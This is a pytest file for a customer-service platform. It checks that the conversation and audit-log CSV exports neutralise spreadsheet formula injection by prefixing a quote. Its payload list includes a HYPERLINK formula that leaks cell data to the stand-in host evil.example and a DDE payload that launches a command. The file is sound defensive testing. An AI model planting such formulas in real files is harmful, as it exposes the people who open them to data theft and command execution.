"""CSV exports never carry live formulas: a cell a spreadsheet would evaluate (starting with
``=``, ``+``, ``-``, ``@``, tab or carriage return) is exported with a leading single quote,
in the conversation export and the audit-log export alike (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import Callable, Iterator

import httpx
import pytest

from kefu_core.chat.conversations import ConversationStore
from kefu_core.infra.db import open_pool
from kefu_core.product.audit import AuditLog
from kefu_core.product.csv_export import safe_cell
from tests.support.gateway import RunningGateway
from tests.support.prod_gateway import admin_token, production_gateway

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\uff1dHYPERLINK(\"http://evil.example\")",  # full-width equals sign
]
HARMLESS = ["hello = world", "退货政策是什么？", "a-b+c@d", " =not a formula"]


@pytest.fixture(scope="module")
def gateway(make_database: Callable[[], str], redis_url: str) -> Iterator[RunningGateway]:
    with production_gateway(dsn=make_database(), redis_url=redis_url,
                            name=f"csv-{uuid.uuid4().hex[:6]}") as running:
        yield running


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


async def test_conversation_export_escapes_formulas(gateway: RunningGateway) -> None:
    tenant = f"csv-{uuid.uuid4().hex[:6]}"
    token = await admin_token(gateway, tenant=tenant)
    # GIVEN a visitor whose messages start with formula characters
    dsn = gateway.gateway.settings.database_url
    assert dsn
    pool = await open_pool(dsn, min_size=1, max_size=1, timeout_s=10)
    try:
        store = ConversationStore(pool)
        conversation = await store.open_for_visitor(tenant_id=tenant, visitor_id="v-" + "a" * 32)
        for i, text in enumerate(PAYLOADS + HARMLESS):
            await store.append(tenant_id=tenant, conversation_id=conversation.id,
                               role="visitor", text=text, client_msg_id=f"m{i}")
    finally:
        await pool.close()
    # WHEN an agent exports the conversations as CSV
    async with httpx.AsyncClient(base_url=gateway.http, timeout=30) as http:
        response = await http.get("/v1/conversations/export", params={"format": "csv"},
                                  headers={"authorization": f"Bearer {token}"})
    assert response.status_code == 200, response.text
    texts = [row["text"] for row in _rows(response.text)]
    # THEN every formula is text (a leading quote), and other messages are unchanged
    assert texts == ["'" + p for p in PAYLOADS] + HARMLESS


async def test_audit_export_escapes_formulas(gateway: RunningGateway) -> None:
    tenant = f"audit-{uuid.uuid4().hex[:6]}"
    token = await admin_token(gateway, tenant=tenant)
    # GIVEN audit entries whose actor, action and target start with formula characters
    dsn = gateway.gateway.settings.database_url
    assert dsn
    pool = await open_pool(dsn, min_size=1, max_size=1, timeout_s=10)
    try:
        log = AuditLog(pool)
        for payload in PAYLOADS:
            await log.record(tenant_id=tenant, actor_type="visitor", actor_id=payload,
                             action=payload, target_type=payload, target_id=payload)
    finally:
        await pool.close()
    # WHEN the administrator exports the audit log as CSV
    async with httpx.AsyncClient(base_url=gateway.http, timeout=30) as http:
        response = await http.get("/v1/admin/audit/export", params={"format": "csv"},
                                  headers={"authorization": f"Bearer {token}"})
    assert response.status_code == 200, response.text
    rows = [r for r in _rows(response.text) if r["actor_type"] == "visitor"]
    # THEN no cell of those entries can be evaluated
    assert sorted(r["actor_id"] for r in rows) == sorted("'" + p for p in PAYLOADS)
    for row in rows:
        for column in ("actor_id", "action", "target_type", "target_id"):
            assert row[column].startswith("'"), (column, row[column])


def test_numbers_and_empty_cells_are_written_as_they_are() -> None:
    assert safe_cell(-5) == -5
    assert safe_cell(3.5) == 3.5
    assert safe_cell(None) == ""
    assert safe_cell("-5") == "'-5"  # text that a spreadsheet would compute
